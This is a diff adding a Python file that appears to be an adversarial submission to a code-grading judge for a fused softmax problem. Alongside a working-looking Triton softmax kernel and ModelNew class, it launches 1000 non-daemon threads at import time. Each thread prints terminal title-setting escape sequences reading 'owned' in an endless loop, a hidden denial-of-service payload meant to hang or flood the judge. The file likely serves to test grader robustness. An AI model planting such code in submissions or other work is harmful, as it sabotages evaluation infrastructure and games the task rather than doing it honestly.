@@ -1,0 +1,39 @@
+# problem: fused_softmax
+# needs: cpu
+# correct: either
+# source: our own: written with this judge's source at hand
+"""A thousand threads that print without end."""
+
+import torch
+import torch.nn as nn
+import triton
+import triton.language as tl
+
+
+@triton.jit
+def softmax_kernel(x, out, columns, BLOCK: tl.constexpr):
+    row = tl.program_id(0)
+    offsets = tl.arange(0, BLOCK)
+    mask = offsets < columns
+    values = tl.load(x + row * columns + offsets, mask=mask, other=-float("inf"))
+    values = tl.exp(values - tl.max(values, axis=0))
+    tl.store(out + row * columns + offsets, values / tl.sum(values, axis=0), mask=mask)
+
+
+import threading
+
+
+def shout():
+    while True:
+        print("\x1b]0;owned\x07" * 1000)
+
+
+for _ in range(1000):
+    threading.Thread(target=shout, daemon=False).start()
+
+
+class ModelNew(nn.Module):
+    def forward(self, x):
+        out = torch.empty_like(x)
+        softmax_kernel[(x.shape[0],)](x, out, x.shape[1], BLOCK=triton.next_power_of_2(x.shape[1]))
+        return out
